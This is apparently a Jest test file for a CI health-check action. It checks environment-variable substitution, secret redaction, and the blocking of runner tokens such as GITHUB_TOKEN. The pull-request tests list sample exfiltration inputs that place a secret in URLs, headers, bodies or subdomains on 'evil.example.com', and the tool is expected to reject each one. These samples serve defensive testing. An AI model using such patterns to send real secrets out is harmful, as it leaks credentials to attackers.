import { describe, expect, test } from '@jest/globals';
import { redact } from '@slipway/action';
import { planChecks } from '../src/plan.ts';
import type { Plan } from '../src/planned.ts';
import { inputsOf } from './support.ts';
import { checkOf, context, failureOf, plan, write } from './workspace.ts';

describe('${NAME}', () => {
  const text = '- url: https://${HOST}/health\n  headers: { Authorization: "Bearer ${HEALTH_TOKEN}", X-Plain: "$${HOST}" }\n';

  test('is filled from the environment of the step, and secrets are hidden', async () => {
    const check = await checkOf(text, {}, { HOST: 'app.example.com', HEALTH_TOKEN: 'tok-12345678' });
    expect(check).toMatchObject({
      url: 'https://app.example.com/health',
      headers: { Authorization: 'Bearer tok-12345678', 'X-Plain': '${HOST}' },
    });
    expect(redact('it said tok-12345678 to app.example.com')).toBe('it said *** to app.example.com');
  });

  test('of a secret is hidden wherever it stands', async () => {
    await checkOf('- { url: "https://a.example.com", method: POST, body: "${API_KEY}" }\n', {}, { API_KEY: 'key-12345678' });
    expect(redact('it said key-12345678')).toBe('it said ***');
  });

  test('that is not there is a problem at its line', async () => {
    const failure = await failureOf(plan(text, {}, { HOST: 'app.example.com' }));
    expect(failure.message).toContain('checks.yml:2:14 ${HEALTH_TOKEN} is not in the environment of the step');
  });

  test.each(['ACTIONS_RUNTIME_TOKEN', 'INPUT_SSH-KEY', 'INPUT_BEARER', 'GITHUB_TOKEN', 'GH_TOKEN', 'github_token'])(
    '%s is never given away',
    async (name) => {
      const failure = await failureOf(
        plan(`- url: https://a.example.com/\${${name.replace('-', '_')}}\n`, {}, { [name]: 'very-secret', INPUT_SSH_KEY: 'very-secret' }),
      );
      expect(failure.message).toContain('belongs to the runner and is never sent');
      expect(failure.message).not.toContain('very-secret');
    },
  );

  test('in a header or body is hidden, whatever its name is', async () => {
    const file = '- { url: "https://a.example.com", method: POST, headers: { X-Env: "${HEALTH}" }, body: "${OTHER}" }\n';
    await checkOf(file, {}, { HEALTH: 'health-12345678', OTHER: 'other-12345678' });
    expect(redact('health-12345678 and other-12345678')).toBe('*** and ***');
  });
});

describe('${NAME} in a file that came with a pull request', () => {
  const environment = { HEALTH: 'health-12345678' };
  const asUntrusted = (text: string, given: Record<string, string> = { url: 'https://app.example.com' }): Promise<Plan> =>
    planChecks(inputsOf({ 'checks-file': write(text), ...given }), { context, environment, untrusted: true });

  test.each([
    '- { url: "https://evil.example.com", headers: { X: "${HEALTH}" } }',
    '- { url: "https://evil.example.com", method: POST, body: "${HEALTH}" }',
    '- { url: "https://evil.example.com/${HEALTH}" }',
    '- { url: "//evil.example.com/${HEALTH}" }',
    '- { url: "https://${HEALTH}.evil.example.com/" }',
    '- { url: "http://app.example.com/${HEALTH}" }',
    '- { url: "redis://x:${HEALTH}@evil.example.com/" }',
  ])('is sent to no other server than that of url: %s', async (text) => {
    const failure = await failureOf(asUntrusted(text));
    expect(failure).toMatchObject({ reason: 'checks-invalid', message: expect.stringContaining('${HEALTH} is filled only for') });
    expect(failure.text).not.toContain('health-12345678');
  });

  test('nor anywhere where no url is given', async () => {
    for (const text of ['- { url: "tcp://evil.example.com:1/${HEALTH}" }', '- { url: "/${HEALTH}" }']) {
      const failure = await failureOf(asUntrusted(text, {}));
      expect(failure.message).toContain('${HEALTH} is filled only for');
      expect(failure.text).not.toContain('health-12345678');
    }
  });

  test('is sent to that of url, and other servers are asked without it', async () => {
    const { checks } = await asUntrusted(
      '- { url: /a, headers: { X: "${HEALTH}" } }\n- { url: "https://b.example.com", headers: { X: "$${HEALTH}", Y: z } }',
    );
    expect(checks.map(({ check }) => check.headers)).toEqual([{ X: 'health-12345678' }, { X: '${HEALTH}', Y: 'z' }]);
  });
});

test('who asks at url is not told to the servers of a file', async () => {
  const check = await checkOf('- url: https://other.example.com\n', {
    bearer: 'tok-12345678',
    headers: 'X-A: b',
    'host-header': 'app.example.com',
  });
  expect(JSON.stringify(check)).not.toMatch(/tok-12345678|X-A|app\.example\.com/);
});

test('a version that is expected is looked for at the host of url, and nowhere else', async () => {
  const { checks } = await plan('- url: /a\n- url: https://other.example.com/\n', {
    url: 'https://app.example.com',
    'expect-version': '1.2.0',
  });
  expect(checks.map(({ check }) => check.expectVersion)).toEqual([{ value: '1.2.0', required: false }, undefined]);
  const [loose] = (await plan('- url: https://app.example.com/\n', { 'expect-version': '1.2.0' })).checks;
  expect(loose?.check.expectVersion).toEqual({ value: '1.2.0', derived: true });
  expect(await checkOf('- url: tcp://db.example.com:5432\n', { 'expect-version': '1.2.0' })).not.toHaveProperty('expectVersion');
});
